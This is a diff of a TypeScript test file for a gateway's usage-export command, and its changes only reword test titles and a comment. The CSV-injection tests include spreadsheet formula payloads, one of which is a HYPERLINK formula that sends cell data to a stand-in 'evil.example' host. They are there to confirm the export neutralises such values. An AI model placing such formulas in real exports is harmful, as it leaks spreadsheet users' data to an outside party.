@@ -11,7 +11,7 @@ import { commandLine, type CommandLine } from "../../../commands/command-line.ts
 
 const silent: Log = { debug() {}, info() {}, warn() {}, error() {}, child: () => silent };
 
-/** A folder in which two charges were settled a minute apart; the meter still runs. */
+/** Makes a folder in which two charges were settled one minute apart. The meter is still running. */
 async function twoCharges(t: TestContext): Promise<CommandLine & { meter: MeterService }> {
   const line = commandLine(t);
   const clock = manualClock(noon);
@@ -48,7 +48,7 @@ async function twoCharges(t: TestContext): Promise<CommandLine & { meter: MeterS
   return { ...line, meter };
 }
 
-test("export prints a JSON document a charge while the gateway runs", async (t) => {
+test("export prints one JSON document per charge while the gateway runs", async (t) => {
   const { run } = await twoCharges(t);
   const { code, out, err } = await run(usage, "export");
   assert.deepEqual([code, err], [0, []]);
@@ -95,7 +95,7 @@ test("export prints a JSON document a charge while the gateway runs", async (t) 
   assert.deepEqual((await run(usage, "export", "--json")).out, out);
 });
 
-test("export prints CSV as RFC 4180 has it", async (t) => {
+test("export prints CSV as in RFC 4180", async (t) => {
   const { run } = await twoCharges(t);
   const { code, out } = await run(usage, "export", "--format", "csv");
   assert.equal(code, 0);
@@ -112,7 +112,7 @@ test("export prints CSV as RFC 4180 has it", async (t) => {
 });
 
 // Finding 15.
-test("a spreadsheet takes no text of a CSV for a formula, and numbers stay numbers", async (t) => {
+test("texts of a CSV cannot run as formulas in a spreadsheet, and numbers are not changed", async (t) => {
   const { run, meter } = await twoCharges(t);
   const models = ["=1+1", "+1", "-1", "@a", "\ta", "\ra", "\na", "\uff1d1+1", "a=1", " a"];
   for (const model of models) {
@@ -135,7 +135,7 @@ test("a spreadsheet takes no text of a CSV for a formula, and numbers stay numbe
   ]);
 });
 
-test("a spreadsheet takes no request id of a CSV for a formula", async (t) => {
+test("a request id in a CSV cannot run as a formula in a spreadsheet", async (t) => {
   const { run, meter } = await twoCharges(t);
   const ids = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-1", "@SUM(A1)", "a=1"];
   for (const requestId of ids) {
@@ -160,7 +160,7 @@ test("a spreadsheet takes no request id of a CSV for a formula", async (t) => {
   );
 });
 
-test("export takes a range", async (t) => {
+test("export accepts a range", async (t) => {
   const { run } = await twoCharges(t);
   const count = async (...argv: string[]): Promise<number> => {
     const { code, out } = await run(usage, "export", ...argv);
@@ -175,7 +175,7 @@ test("export takes a range", async (t) => {
   assert.equal(await count("--from", "2026-01-16", "--format", "csv"), 1);
 });
 
-test("export goes on behind the charge that an earlier one ended with", async (t) => {
+test("export continues after the last charge of an earlier export", async (t) => {
   const { run, meter } = await twoCharges(t);
   const ids = async (...argv: string[]): Promise<string[]> =>
     (await run(usage, "export", ...argv)).out.map(
@@ -206,14 +206,14 @@ for (const wrong of [
   "1768478400000",
   "",
 ]) {
-  test(`"${wrong}" is no time: wrong usage`, async (t) => {
+  test(`the time "${wrong}" is refused as wrong usage`, async (t) => {
     const { run } = commandLine(t);
     await assert.rejects(run(usage, "export", "--from", wrong), UsageError);
     await assert.rejects(run(usage, "export", `--to=${wrong}`), UsageError);
   });
 }
 
-test("an unknown format, an unknown subcommand or none is wrong usage", async (t) => {
+test("an unknown format, an unknown subcommand or a missing one is wrong usage", async (t) => {
   const { run } = commandLine(t);
   await assert.rejects(run(usage, "export", "--format", "xml"), /jsonl, csv/);
   await assert.rejects(run(usage, "export", "--format", "csv", "--json"), UsageError);
@@ -230,7 +230,7 @@ test("a data folder without a journal fails with the remedy", async (t) => {
   assert.ok(err.join("\n").includes(data));
 });
 
-test("an export that is told to stop stops", async (t) => {
+test("an export stops when it receives a signal", async (t) => {
   const { meter, configFile } = await twoCharges(t);
   const many = Array.from({ length: 1_200 }, () => ({ surface: "s", method: "m", costMilli: 0 }));
   for (let at = 0; at < many.length; at += 200) {
